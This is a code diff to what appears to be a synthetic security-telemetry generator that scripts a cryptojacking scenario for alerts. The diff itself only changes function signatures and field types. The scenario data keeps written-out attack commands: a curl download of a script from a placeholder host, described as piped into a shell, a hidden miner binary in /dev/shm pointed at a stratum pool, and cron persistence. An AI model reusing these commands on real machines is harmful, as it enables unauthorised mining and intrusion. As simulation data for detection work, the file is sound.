@@ -3,32 +3,28 @@ import { type ClaimHost, step, type Story, type Texts } from './story.ts';
 
 const MINER = '/dev/shm/.x/kworkerd -a kawpow -o stratum+tcp://pool.example.net:14444 -u wallet.7';
 
-const COMMAND = ['comm', 'command_line'] as const;
-
 const entry = [
   step(
     'login',
     'notebook server without a password opened from {ip}',
-    COMMAND,
     '/opt/conda/bin/jupyter-lab --ip=0.0.0.0 --no-browser',
   ),
-  step('process_exec', 'terminal of the notebook server started', COMMAND, '/bin/bash -l'),
+  step('process_exec', 'terminal of the notebook server started', '/bin/bash -l'),
   step(
     'process_exec',
     'script from a public address piped into a shell',
-    [...COMMAND, 'pwd'],
     'curl -fsSL http://updates.example.com/i.sh',
   ),
 ];
 const install = [
-  step('file_open', '/dev/shm/.x/kworkerd opened for writing', ['comm'], 'tar xzf /dev/shm/.x.tgz'),
-  step('file_chmod', '/dev/shm/.x/kworkerd made executable', ['comm'], 'chmod +x /dev/shm/.x/kworkerd'),
-  step('process_exec', 'kworkerd started, parent exited', [...COMMAND, 'args', 'pwd']),
+  step('file_open', '/dev/shm/.x/kworkerd opened for writing', 'tar xzf /dev/shm/.x.tgz'),
+  step('file_chmod', '/dev/shm/.x/kworkerd made executable', 'chmod +x /dev/shm/.x/kworkerd'),
+  step('process_exec', 'kworkerd started, parent exited'),
 ];
 const mining = [
-  step('network_connect', 'TCP connection to {ip}:14444', COMMAND),
+  step('network_connect', 'TCP connection to {ip}:14444'),
   step('gpu_context', 'compute context created on all GPUs of {host}'),
-  step('gpu_kernel_launch', 'proof-of-work kernels, 99 % utilization', COMMAND),
+  step('gpu_kernel_launch', 'proof-of-work kernels, 99 % utilization'),
 ];
 
 const alerts: [minutesBefore: number, texts: Texts][] = [
@@ -103,7 +99,7 @@ const alerts: [minutesBefore: number, texts: Texts][] = [
       command: MINER,
       steps: [
         step('process_exit', 'kworkerd ended with signal 9'),
-        step('process_exec', 'kworkerd started by cron', COMMAND, '/usr/sbin/cron -f'),
+        step('process_exec', 'kworkerd started by cron', '/usr/sbin/cron -f'),
         mining[2]!,
       ],
     },
@@ -125,8 +121,8 @@ export function miner(now: number, claim: ClaimHost): Story | undefined {
         name: 'kworkerd',
         description: '',
         usageCategory: '',
-        utilizationPct: [99, 99],
-        memoryFraction: [0.06, 0.06],
+        utilizationPct: 99,
+        memoryFraction: 0.06,
         powerIntensity: 0.94,
         isSteady: true,
       },
